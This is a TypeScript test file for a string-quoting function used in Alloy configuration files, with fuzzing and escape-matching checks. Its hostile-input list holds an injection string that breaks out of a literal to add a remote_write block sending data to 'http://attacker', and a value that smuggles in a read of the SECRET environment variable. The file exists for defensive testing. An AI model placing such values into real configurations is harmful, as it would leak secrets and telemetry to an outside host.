import { quote } from '../../../lib/alloy/syntax';
import { readAlloyString } from '../../support/alloy-string';
import { prng } from '../../support/random-alloy';

const HOSTILE = [
  '',
  '"',
  '\\',
  '\\"',
  '"\n}\nprometheus.remote_write "evil" {\n\tendpoint { url = "http://attacker" }\n}\n//',
  'end" + sys.env("SECRET") + "',
  '\t\r\n\v\f\b\u0007\u0000',
  '}}}{{{]]][[[',
  '// not a comment',
  '/* not a comment */',
  '`raw`',
  '\u2028\u2029\u0085',
  '\u202e right-to-left override',
  'ünïcødé ✓ 名前 😀 𝒳',
  '\ufeff BOM',
  '\u{e0001} tag',
  '\\n literal backslash-n',
  '\x7f\x80\x9f',
];

function expectSafe(value: string): void {
  const literal = quote(value);
  // the literal is one line with no raw control characters
  expect(literal).not.toMatch(/[\u0000-\u001f\u007f\u2028\u2029]/);
  // it reads back to exactly the value, and ends exactly at its closing quote
  const read = readAlloyString(literal + ' = "next"');
  expect(read.value).toBe(value);
  expect(read.length).toBe(literal.length);
}

describe('quote', () => {
  test.each(HOSTILE.map((s) => [JSON.stringify(s), s]))('hostile string %s cannot leave its literal', (_, s) => {
    expectSafe(s);
  });

  test('random strings of any code point round-trip and stay inside their literal', () => {
    const rnd = prng(20261122);
    const ranges: Array<[number, number]> = [[0, 0x7f], [0x80, 0x2fff], [0xe000, 0xffff], [0x10000, 0x10ffff]];
    for (let n = 0; n < 3000; n++) {
      let s = '';
      const len = Math.floor(rnd() * 12);
      for (let k = 0; k < len; k++) {
        const [lo, hi] = ranges[Math.floor(rnd() * ranges.length)];
        s += String.fromCodePoint(lo + Math.floor(rnd() * (hi - lo + 1)));
      }
      expectSafe(s);
    }
  });

  test('escapes match Go strconv.Quote for common characters', () => {
    expect(quote('a"b\\c\nd\te')).toBe('"a\\"b\\\\c\\nd\\te"');
    expect(quote('\u0000\u007f')).toBe('"\\x00\\x7f"');
    expect(quote('\u00a0')).toBe('"\\u00a0"');
    expect(quote('é')).toBe('"é"');
  });

  test('fails when a string holds a lone surrogate', () => {
    expect(() => quote('\udc00')).toThrow('string literal: lone UTF-16 surrogate U+DC00');
  });
});
